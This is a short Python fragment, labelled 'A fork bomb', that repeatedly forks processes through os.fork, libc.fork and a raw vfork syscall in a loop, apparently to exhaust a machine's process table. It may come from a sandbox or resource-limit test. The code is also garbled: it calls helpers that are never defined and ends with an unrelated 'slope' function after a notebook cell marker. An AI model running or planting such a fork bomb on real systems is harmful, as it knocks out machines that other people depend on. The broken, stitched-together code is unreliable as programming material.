"""A fork bomb."""
import ctypes, os
libc = ctypes.CDLL(None)
for _ in range(1000):
    attempt("fork", os.fork)
    attempt("libc", lambda: 1 / max(0, libc.fork() + 1))
    attempt("vfork", lambda: 1 / max(0, libc.syscall(58) + 1))
# %%
def slope(f, x, h): return report()
